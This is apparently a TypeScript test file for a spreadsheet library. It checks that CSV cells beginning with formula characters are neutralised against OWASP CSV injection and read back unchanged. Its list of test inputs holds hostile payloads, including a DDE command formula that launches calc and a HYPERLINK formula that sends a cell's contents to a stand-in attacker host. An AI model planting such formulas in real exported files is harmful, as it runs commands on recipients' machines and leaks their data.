import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreFormula } from '../src/spreadsheet/csv-formulas.js';
import { readTables } from '../src/spreadsheet/read-table.js';
import { writeCsv } from '../src/spreadsheet/write-table.js';

const ATTACKS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://angriber.test/?d="&A1,"Se faktura")',
  '+45 12 34 56 78',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  "''@x",
];

describe('formulas in CSV cells (OWASP CSV injection)', () => {
  it.each(ATTACKS)('given the text %j, then the cell written does not start a formula', (text) => {
    const written = neutraliseFormula(text);
    expect(written).toMatch(/^'/);
    expect(restoreFormula(written)).toBe(text);
  });

  it.each(['Drift og vedligehold', "'citeret", "O'Brien", '1-2-3', ''])(
    'given the plain text %j, then it is written as it is',
    (text) => {
      expect(neutraliseFormula(text)).toBe(text);
      expect(restoreFormula(text)).toBe(text);
    },
  );

  it('given any text, then writing and reading it back gives the same text', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ', 'ø') }), (text) => {
        expect(restoreFormula(neutraliseFormula(text))).toBe(text);
        expect(neutraliseFormula(text)).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });

  it('given a sheet of formula-leading texts, then the CSV written reads back to the same texts and numbers', async () => {
    const csv = writeCsv({
      name: 'Kontrakter',
      columns: [{ heading: 'Navn' }, { heading: '=Beløb', kind: 'number' }],
      rows: ATTACKS.map((text, i) => [text, -i - 0.5]),
    });
    const lines = csv.toString('utf8').slice(1).split('\r\n');
    for (const line of lines.filter(Boolean)) expect(line).not.toMatch(/^"?[=+\-@\t\r]/);
    const [table] = await readTables(csv, 'Kontrakter', 'text/csv', { isHeadingRow: (cells) => cells[0] === 'Navn' });
    expect(table?.headings).toEqual(['Navn', '=Beløb']);
    expect(table?.rows.map((r) => r.cells.get('Navn'))).toEqual(ATTACKS);
    expect(table?.rows.map((r) => r.cells.get('=Beløb'))).toEqual(ATTACKS.map((_, i) => `-${i},5`));
  });
});
